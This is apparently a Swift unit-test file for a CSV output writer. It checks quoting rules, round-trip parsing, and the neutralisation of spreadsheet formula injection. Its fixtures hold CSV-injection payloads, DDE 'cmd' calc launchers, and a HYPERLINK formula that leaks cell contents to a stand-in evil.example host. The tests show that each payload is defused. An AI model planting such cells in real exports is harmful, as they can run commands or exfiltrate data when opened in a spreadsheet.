import PipelineModel
import Testing

@Suite("CSV writer")
struct CSVWriterTests {
    @Test("fields are quoted only when RFC 4180 requires it, quotes doubled", arguments: [
        ("plain", "plain"),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("line1\nline2", "\"line1\nline2\""),
        ("cr\r", "\"cr\r\""),
        (" padded ", "\" padded \""),
        ("", ""),
    ])
    func encode(field: String, encoded: String) {
        #expect(CSVWriter.encode(field: field) == encoded)
    }

    @Test("written rows read back as the same fields")
    func roundTrip() throws {
        let header = try CSVHeader(columns: ["S. No.", "Product Name", "Input Image Urls", "Notes, extra"])
        let writer = CSVOutputWriter(header: header)
        let inputs: [[String]] = [
            ["1", "Shoe, \"red\"", "https://a.example/1.jpg,https://a.example/2.jpg", "multi\r\nline"],
            ["2", "-20% sale", "https://b.example/1.jpg", ""],
            ["3", "Café ☕️", "", " spaced "],
        ]
        var text = writer.headerLine
        for input in inputs {
            text += writer.line(inputFields: input, outputURLs: ["https://out.example/1.webp", "https://out.example/2.webp"], status: "done", error: "")
        }
        let records = try csvRecords(Array(text.utf8), chunkSize: 5)
        #expect(records.map(\.fields) == [header.columns + CSVOutputWriter.addedColumns] + inputs.map {
            $0.map(CSVWriter.neutralizingFormula) + ["https://out.example/1.webp, https://out.example/2.webp", "done", ""]
        })
        #expect(records[2].fields[1] == "'-20% sale")
        #expect(text.hasSuffix("\r\n"))
    }

    @Test("values starting with = + - @ tab or CR get a leading quote mark", arguments: [
        ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("safe = fine", "safe = fine"),
        ("", ""),
    ])
    func formulaGuard(value: String, guarded: String) {
        #expect(CSVWriter.neutralizingFormula(value) == guarded)
    }

    /// Hostile input cells as a user's CSV might carry them, and the cell each must become.
    static let hostileCells: [(input: String, cell: String)] = [
        (#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#, #""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#),
        ("+cmd|' /C calc'!A0", #""'+cmd|' /C calc'!A0""#),
        ("@SUM(1+9)*cmd|' /C calc'!A0", #""'@SUM(1+9)*cmd|' /C calc'!A0""#),
        ("-2+3", #""'-2+3""#),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
    ]

    @Test("every input cell a spreadsheet would read as a formula gets a leading ' and is quoted; it reads back as that text", arguments: hostileCells)
    func hostileInputCell(input: String, cell: String) throws {
        let header = try CSVHeader(columns: ["S. No.", "Product Name", "Input Image Urls", "Notes"])
        let writer = CSVOutputWriter(header: header)
        let line = writer.line(inputFields: ["1", input, "https://x.example/a.jpg", input], outputURLs: [], status: "done", error: "")
        #expect(line == "1,\(cell),https://x.example/a.jpg,\(cell),,done,\r\n")
        let fields = try #require(try csvRecords(Array(line.utf8)).first?.fields)
        #expect(fields[1] == "'" + input && fields[3] == "'" + input)
    }

    @Test("header cells from the input file are guarded too")
    func hostileHeader() throws {
        let writer = CSVOutputWriter(header: try CSVHeader(columns: ["Product Name", "url", "=1+1"]))
        #expect(writer.headerLine == "Product Name,url,\"'=1+1\",Output Image Urls,Status,Error\r\n")
    }

    @Test("the pipeline's columns are guarded as well as the user's")
    func guardedColumns() throws {
        let writer = CSVOutputWriter(header: try CSVHeader(columns: ["Product Name", "url"]))
        let line = writer.line(inputFields: ["=1+1", "https://x.example/a.jpg"], outputURLs: [], status: "failed", error: "=cmd|' /C calc'!A0")
        let fields = try csvRecords(Array(line.utf8)).first?.fields
        #expect(fields == ["'=1+1", "https://x.example/a.jpg", "", "failed", "'=cmd|' /C calc'!A0"])
    }
}
